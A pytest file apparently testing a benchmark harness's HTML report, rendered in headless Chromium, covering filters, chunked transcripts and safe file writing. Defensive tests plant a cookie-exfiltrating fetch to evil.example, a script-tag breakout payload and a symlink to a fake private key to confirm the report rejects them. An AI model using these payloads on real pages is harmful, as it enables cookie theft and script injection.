"""The report: a real run on the generated suite, rendered by headless Chromium.

The runs use the host-side baselines (oracle, chance-random) so they need no sandbox.
The report must show the picture first (heatmap, baseline, cost, audit), filter its
attempts by what the URL hash says (the page's own script, run by Chromium), open an
attempt's transcript on demand, both as one file and split into a page plus chunk files,
and stay small at 10,000 attempts.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from statebox.report.aggregate import HEADLINE_METRIC
from tests.report.chromium_support import dump_dom, screenshot

STATEBOX = [sys.executable, "-m", "statebox.cli"]


def _run(args: list[str], timeout: int = 600) -> subprocess.CompletedProcess:
    proc = subprocess.run(STATEBOX + args, capture_output=True, text=True, timeout=timeout)
    assert proc.returncode == 0, proc.stderr[-3000:]
    return proc


@pytest.fixture(scope="module")
def finished_run(tiny_suite, tmp_path_factory) -> Path:
    run_dir = tmp_path_factory.mktemp("run")
    proc = _run(["run", "--agent", "oracle", "--agent", "chance-random", "--suite", str(tiny_suite), "--run-dir", str(run_dir), "--json"])
    payload = json.loads(proc.stdout)
    oracle = [r for r in payload["results"] if r["agent"] == "oracle"]
    assert oracle, payload
    for r in oracle:  # the oracle proves the pipeline: ground truth through the scorer is 100%
        if r["bench"] in ("vstat", "vcbench", "cpbench"):
            assert r["metrics"][HEADLINE_METRIC[r["bench"]]] == pytest.approx(1.0), r
    return run_dir


def _stored(run_dir: Path) -> list:
    from statebox.harness.store import ResultStore

    store = ResultStore(run_dir)
    try:
        return store.rows()
    finally:
        store.close()


@pytest.fixture(scope="module")
def flagged_run(finished_run, tmp_path_factory) -> tuple[Path, dict[str, int]]:
    """The finished run with some attempts re-audited as contaminated / suspicious (through the store API)."""
    from statebox.harness.store import ResultStore

    run_dir = tmp_path_factory.mktemp("flagged") / "run"
    shutil.copytree(finished_run, run_dir)
    store = ResultStore(run_dir)
    rows = store.rows()
    counts = {"contaminated": 0, "suspicious": 0}
    for k, row in enumerate(rows):
        if k % 7 == 0:
            store.update_verdict(row.attempt_id, "contaminated", "void",
                                 [{"category": "honeytoken", "severity": "high", "event": 1, "quote": "cat /opt/labels.json"}])
            counts["contaminated"] += 1
        elif k % 11 == 0:
            store.update_verdict(row.attempt_id, "suspicious", "flag",
                                 [{"category": "network", "severity": "medium", "event": 1, "quote": "curl example.com"}])
            counts["suspicious"] += 1
    store.close()
    _run(["report", str(run_dir)])
    return run_dir, counts


def test_report_json_and_html(finished_run):
    proc = _run(["report", str(finished_run), "--json"], timeout=300)
    payload = json.loads(proc.stdout)
    assert payload["single_file"] is True and payload["files_dir"] is None  # a small run stays one file
    html = Path(payload["report"]).read_text()
    assert payload["report_bytes"] == len(html.encode())
    for element in ("id='heatmap'", "id='vs-baseline'", "id='cost-score'", "id='audit-chart'", "id='leaderboard'", "id='attempts'"):
        assert element in html, element
    assert html.index("id='heatmap'") < html.index("id='leaderboard'") < html.index("id='attempts'")  # picture first
    assert "chance-random" in html and "oracle" in html
    assert "class='chart confusion'" in html and "class='chart curve'" in html  # inline SVG: the file stands alone
    assert "final_answer" in html  # transcripts are inline in a single-file report
    assert "src='http" not in html and 'src="http' not in html and "fetch(\"http" not in html
    assert not (finished_run / "report_files").exists()


def test_report_terminal_output_states_the_size(finished_run):
    proc = _run(["report", str(finished_run), "--single-file"], timeout=300)
    # the terminal's width wraps the line at a space, wherever the run folder's path (longer under a
    # pytest-xdist worker's temp folder) puts it: the words, not the line breaks, are the contract here
    words = " ".join(proc.stdout.split())
    assert re.search(r"report: .*report\.html \(\d+(\.\d)? [KM]B, single file\)", words), proc.stdout[-500:]


def shown_rows(dom: str) -> list[dict[str, str]]:
    rows = re.findall(r'<tr class="arow[^"]*"( data-idx="\d+"[^>]*)>', dom)  # (not the script's template)
    return [dict(re.findall(r'data-([a-z]+)="([^"]*)"', attrs)) for attrs in rows]


def count_of(dom: str) -> tuple[int, int]:
    m = re.search(r'id="count" data-shown="(\d+)" data-total="(\d+)"', dom)
    assert m, "no attempt counter in the DOM"
    return int(m.group(1)), int(m.group(2))


def assert_not_blank(image, what: str) -> None:
    colours = image.getcolors(maxcolors=1_000_000) or []
    assert len(colours) > 20, f"the {what} screenshot is blank"


def heatmap_pixels(image) -> int:
    """Pixels of the heatmap's blue ramp (cells of any score are some shade of it)."""
    import numpy as np

    px = np.asarray(image.convert("RGB"), dtype=int)
    r, g, b = px[..., 0], px[..., 1], px[..., 2]
    return int(((b > r + 25) & (b > g + 5)).sum())


def test_report_renders_in_headless_chromium(finished_run, tmp_path):
    report = finished_run / "report.html"
    if not report.exists():
        _run(["report", str(finished_run)], timeout=300)
    profile = tmp_path / "profile"
    rows = _stored(finished_run)
    dom = dump_dom(report, "#open=0", profile)
    assert 'id="heatmap"' in dom and 'id="leaderboard"' in dom
    assert dom.count('class="cell"') == len({(r.agent, r.dataset) for r in rows})  # one cell per agent x dataset
    shown, total = count_of(dom)
    assert shown == total == len(rows)
    opened = re.search(r'<div class="attempt-detail loaded" id="attempt-0">(.*?)</div></td></tr>', dom, re.S)
    assert opened, "#open=0 did not open the attempt's transcript"
    assert "final_answer" in opened.group(1)

    top = screenshot(report, "", tmp_path / "top.png", profile)
    transcript = screenshot(report, "#focus=0", tmp_path / "transcript.png", profile)
    for image, what in ((top, "top"), (transcript, "transcript")):
        assert_not_blank(image, what)
    assert heatmap_pixels(top.crop((0, 0, 1400, 600))) > 5000, "no heatmap in the first screen"
    assert top.tobytes() != transcript.tobytes()  # the focused view shows the transcript instead


def test_filters_by_verdict_in_chromium(flagged_run, tmp_path):
    run_dir, counts = flagged_run
    total = len(_stored(run_dir))
    report = run_dir / "report.html"
    profile = tmp_path / "profile"
    dom = dump_dom(report, "#verdict=contaminated", profile)
    rows = shown_rows(dom)
    assert len(rows) == min(counts["contaminated"], 100) > 0  # (100 rows a page)
    assert {r["verdict"] for r in rows} == {"contaminated"}
    assert count_of(dom) == (counts["contaminated"], total)

    dom = dump_dom(report, "#verdict=suspicious&agent=oracle", profile)
    rows = shown_rows(dom)
    assert rows and {(r["verdict"], r["agent"]) for r in rows} == {("suspicious", "oracle")}

    stored = _stored(run_dir)
    wrong = sum(1 for r in stored if r.agent == "chance-random" and r.metrics.get("correct") == 0.0)
    dom = dump_dom(report, "#agent=chance-random&correct=incorrect", profile)
    assert count_of(dom)[0] == wrong > 0
    assert {(r["agent"], r["correct"]) for r in shown_rows(dom)} == {("chance-random", "0")}

    dom = dump_dom(report, "#q=" + "cubes%20are%20present", profile)  # search the questions
    rows = shown_rows(dom)
    assert rows and count_of(dom)[0] < total

    dom = dump_dom(report, "#sort=0&dir=-1", profile)  # sort by '#', descending
    idx = [int(r["idx"]) for r in shown_rows(dom)]
    assert idx == sorted(idx, reverse=True) and idx[0] == total - 1

    dom = dump_dom(report, "", profile)  # the heatmap marks flagged cells and counts the voided
    assert "void 0" in dom or "void 1" in dom
    assert "attempts flagged" in dom


def test_split_report_loads_chunks_on_demand(flagged_run, tmp_path):
    """Beyond a size the report is a small page plus a folder of chunk scripts, opened from file://."""
    from statebox.report.page import write_report_output

    run_dir, counts = flagged_run
    out = tmp_path / "split" / "report.html"
    result = write_report_output(run_dir, out, split_over=0)
    assert not result.single_file and result.files_dir == out.parent / "report_files"
    names = sorted(p.name for p in result.files_dir.iterdir())
    assert any(n.startswith("i-") for n in names) and any(n.startswith("t-") for n in names)
    html = out.read_text()
    assert "final_answer" not in html  # transcripts are not in the page
    profile = tmp_path / "profile"
    dom = dump_dom(out, "#open=5", profile)
    total = len(_stored(run_dir))
    assert count_of(dom) == (total, total)
    opened = re.search(r'<div class="attempt-detail loaded" id="attempt-5">(.*?)</div></td></tr>', dom, re.S)
    assert opened and "final_answer" in opened.group(1)
    dom = dump_dom(out, "#verdict=contaminated", profile)
    assert {r["verdict"] for r in shown_rows(dom)} == {"contaminated"}
    assert count_of(dom)[0] == counts["contaminated"]
    # going back to one file removes the now-stale folder
    single = write_report_output(run_dir, out, single_file=True)
    assert single.single_file and not (out.parent / "report_files").exists()


def test_transcript_search(flagged_run, tmp_path):
    run_dir, _ = flagged_run
    from statebox.report.page import write_report_output
    from statebox.harness.store import ResultStore

    row = _stored(run_dir)[3]
    events = run_dir / "attempts" / row.attempt_id / "events.jsonl"
    with events.open("a") as fh:
        fh.write(json.dumps({"seq": 99, "kind": "tool_output", "text": "zebra-needle-42 in the haystack"}) + "\n")
    out = tmp_path / "t" / "report.html"
    write_report_output(run_dir, out, split_over=0)
    profile = tmp_path / "profile"
    dom = dump_dom(out, "#q=zebra-needle-42", profile)
    assert count_of(dom)[0] == 0  # not in questions or answers
    dom = dump_dom(out, "#q=zebra-needle-42&t=1", profile)
    assert [r["idx"] for r in shown_rows(dom)] and count_of(dom)[0] == 1


# ------------------------------------------------------------------ 10,000 attempts


@pytest.fixture(scope="module")
def big_run(tiny_suite, tmp_path_factory) -> tuple[Path, int]:
    """About 10,000 host-side attempts: the tiny suite's queries x 2 agents x as many epochs as it takes."""
    from statebox.benchmarks import load_benchmark
    from statebox.harness.plan import datasets_from_suite

    queries = 0
    for spec in datasets_from_suite(tiny_suite):
        items = load_benchmark(spec.bench, Path(spec.data), Path(spec.videos) if spec.videos else None).items
        queries += sum(len(i.queries) for i in items)
    epochs = -(-10_000 // (2 * queries))
    run_dir = tmp_path_factory.mktemp("big") / "run"
    _run(["run", "--agent", "oracle", "--agent", "chance-random", "--suite", str(tiny_suite), "--run-dir", str(run_dir),
          "--epochs", str(epochs), "--concurrency", "2", "--json"], timeout=1800)
    return run_dir, 2 * queries * epochs


@pytest.mark.slow
def test_report_of_ten_thousand_attempts(big_run, tmp_path):
    big_run, n = big_run
    assert n >= 10_000
    proc = _run(["report", str(big_run), "--json"], timeout=900)
    payload = json.loads(proc.stdout)
    assert payload["attempts"] == n
    report = Path(payload["report"])
    assert report.stat().st_size < 10 * 1024 * 1024
    profile = tmp_path / "profile"
    dom = dump_dom(report, "#open=9000", profile, budget_ms=20000)
    assert 'id="heatmap"' in dom
    assert count_of(dom) == (n, n)
    opened = re.search(r'<div class="attempt-detail loaded" id="attempt-9000">(.*?)</div></td></tr>', dom, re.S)
    assert opened and "final_answer" in opened.group(1)
    top = screenshot(report, "", tmp_path / "top.png", profile)
    assert_not_blank(top, "top")
    assert heatmap_pixels(top.crop((0, 0, 1400, 600))) > 5000, "no heatmap in the first screen"

    # the same run split into a page and chunks: the page is small whatever the run size
    from statebox.report.page import write_report_output

    out = tmp_path / "split" / "report.html"
    split = write_report_output(big_run, out, split_over=0)
    assert not split.single_file and split.bytes < 1024 * 1024
    dom = dump_dom(out, f"#open={n - 1}&verdict=clean", profile, budget_ms=20000)
    assert count_of(dom) == (n, n)
    opened = re.search(rf'<div class="attempt-detail loaded" id="attempt-{n - 1}">(.*?)</div></td></tr>', dom, re.S)
    assert opened and "final_answer" in opened.group(1)


def test_transcript_lines_are_kept_whole_and_bounded(tmp_path):
    """The report splices events.jsonl lines into its JSON: torn, long and surplus lines are handled."""
    from statebox.report.data import MAX_EVENTS_PER_ATTEMPT, encode_transcript, read_transcript

    lines = [json.dumps({"seq": i, "kind": "command", "text": f"echo {i} </script>"}) for i in range(MAX_EVENTS_PER_ATTEMPT + 5)]
    lines[3] = json.dumps({"seq": 3, "kind": "tool_output", "text": "x" * 10_000, "data": {"blob": "y" * 5000}})
    (tmp_path / "events.jsonl").write_text("\n".join(lines) + "\n")
    t = read_transcript(tmp_path)
    assert len(t["lines"]) == MAX_EVENTS_PER_ATTEMPT and t["more"] == 5
    decoded = json.loads(encode_transcript(t, None))
    assert "</script>" not in encode_transcript(t, None)  # safe inside an inline <script> block
    assert decoded["ev"][0]["text"] == "echo 0 </script>"
    assert len(decoded["ev"][3]["text"]) < 2100 and "more chars" in decoded["ev"][3]["text"]
    (tmp_path / "events.jsonl").write_text("\n".join(lines[:3]) + "\n" + lines[5][:20])  # killed mid-write
    decoded = json.loads(encode_transcript(read_transcript(tmp_path), None))
    assert [e["kind"] for e in decoded["ev"]] == ["command"] * 3 + ["note"]
    (tmp_path / "events.jsonl").write_text(lines[0] + "\nnot json\n" + lines[1] + "\n")
    decoded = json.loads(encode_transcript(read_transcript(tmp_path), None))
    assert [e["kind"] for e in decoded["ev"]] == ["command", "note", "command"]
    assert json.loads(encode_transcript(read_transcript(tmp_path / "missing"), None))["missing"] is True


@pytest.mark.parametrize("plant", ["link_to_a_secret", "script", "inline_breakout"])
@pytest.mark.parametrize("single", [False, True])
def test_a_planted_chunk_in_the_last_reports_folder_is_not_reused(flagged_run, tmp_path, plant, single):
    """A run folder handed over keeps its last report's `report_files/` (a tarball keeps links and modification
    times, and a chunk's name is a key of the attempts, sizes and times, not of its bytes). A chunk planted there
    under the name the next report will ask for was reused as it stood: a link to the user's private key was
    copied into the new report's folder, a script ran in the page, a `</script>` broke out of the inline block.
    Now a chunk is reused only as a regular file holding exactly the chunk the report would write: its name, one
    JSON value, no `<`; anything else is written afresh."""
    from statebox.report.page import write_report_output

    run_dir = tmp_path / "run"
    shutil.copytree(flagged_run[0], run_dir)
    out = run_dir / "report.html"
    first = write_report_output(run_dir, out, split_over=0)
    chunks = sorted(first.files_dir.glob("t-*.js"))
    assert chunks
    secret = tmp_path / "id_rsa"
    secret.write_text("-----BEGIN PRIVATE KEY----- okapi-secret-9\n")
    for chunk in chunks:
        body = chunk.read_text()
        chunk.unlink()
        if plant == "link_to_a_secret":
            chunk.symlink_to(secret)
        elif plant == "script":
            chunk.write_text(body.replace(");\n", "); fetch('https://evil.example/' + document.cookie);\n"))
        else:
            chunk.write_text(body[: body.index(",") + 1] + '"</script><script>alert(1)</script>");\n')
    again = write_report_output(run_dir, out, single_file=single, split_over=0)
    assert again.transcripts_reused == 0 and again.transcripts_written == first.transcripts_written
    texts = [out.read_text()] + ([p.read_text() for p in again.files_dir.glob("*.js")] if again.files_dir else [])
    for text in texts:
        assert "okapi-secret-9" not in text and "evil.example" not in text and "alert(1)" not in text
    if again.files_dir:
        assert not any(p.is_symlink() for p in again.files_dir.iterdir())


def test_next_report_links_unchanged_transcript_chunks(flagged_run, tmp_path):
    """A second report of an unchanged run copies no transcript; a changed events.jsonl (or a
    re-audited row) rewrites only the chunk that holds it, and the page still finds it by attempt id."""
    from statebox.report.page import write_report_output

    run_dir, _ = flagged_run
    out = tmp_path / "again" / "report.html"
    first = write_report_output(run_dir, out, split_over=0)
    total = first.n_rows
    assert first.transcripts_written == total and first.transcripts_reused == 0
    again = write_report_output(run_dir, out, split_over=0)
    assert again.transcripts_written == 0 and again.transcripts_reused == total
    row = _stored(run_dir)[2]
    events = run_dir / "attempts" / row.attempt_id / "events.jsonl"
    with events.open("a") as fh:
        fh.write(json.dumps({"seq": 98, "kind": "note", "text": "okapi-marker-7"}) + "\n")
    third = write_report_output(run_dir, out, split_over=0)
    assert 0 < third.transcripts_written < total and third.transcripts_reused + third.transcripts_written == total
    chunks = [p.read_text() for p in third.files_dir.glob("t-*.js")]
    assert sum("okapi-marker-7" in c for c in chunks) == 1
    assert any(json.dumps(row.attempt_id) + ":" in c and "okapi-marker-7" in c for c in chunks)
    profile = tmp_path / "profile"
    dom = dump_dom(out, "#q=okapi-marker-7&t=1", profile)
    assert count_of(dom)[0] == 1


def test_the_page_is_never_renamed_over_a_device_fifo_or_a_link_to_one(tmp_path):
    """`statebox report RUN --out /dev/stdout` renamed the page over the link, as `--html /dev/full` did over the
    device (found by probe, run as root): the target is judged before any work and again before the rename."""
    from statebox.errors import UserError
    from statebox.report.page import write_report_output

    fifo = tmp_path / "fifo.html"
    os.mkfifo(fifo)
    null = tmp_path / "null.html"
    null.symlink_to("/dev/null")
    for out, words in ((fifo, "a FIFO (named pipe), not a regular file"),
                       (null, "a link to a character device, not a regular file")):
        with pytest.raises(UserError, match=re.escape(words)):
            write_report_output(tmp_path / "any-run", out)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and os.readlink(null) == "/dev/null"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fifo.html", "null.html"]


def test_the_page_never_replaces_the_run_s_own_files(tmp_path):
    """`--out RUN/results.sqlite` replaced the result store with the page (found by probe): a file there that is no
    HTML page is one error line, before any work, and stays as it was."""
    from statebox.errors import UserError
    from statebox.report.page import write_report_output

    store = tmp_path / "results.sqlite"
    store.write_bytes(b"SQLite format 3\x00" + bytes(100))
    with pytest.raises(UserError, match="exists and is not an HTML page"):
        write_report_output(tmp_path / "any-run", store)
    assert store.read_bytes() == b"SQLite format 3\x00" + bytes(100)
